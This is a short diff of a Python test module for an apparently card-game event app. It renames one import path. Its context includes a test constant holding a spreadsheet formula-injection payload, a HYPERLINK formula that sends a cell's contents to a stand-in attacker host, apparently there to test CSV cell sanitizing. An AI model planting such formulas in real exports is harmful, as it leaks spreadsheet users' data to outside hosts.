@@ -18,7 +18,7 @@ from deckwarden.csvfiles import BOM, cell_read, cell_safe
 from events.services import registration_submit
 from tests.cards.factories import acara, neopets_file
 from tests.events.conftest import event, make_version, neopets  # noqa: F401 (fixtures)
-from tests.rules.core.factories import legal_entries
+from tests.rulebook.core.factories import legal_entries
 from tests.validation.conftest import legal_text, neopets_cards  # noqa: F401 (a fixture)
 
 HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
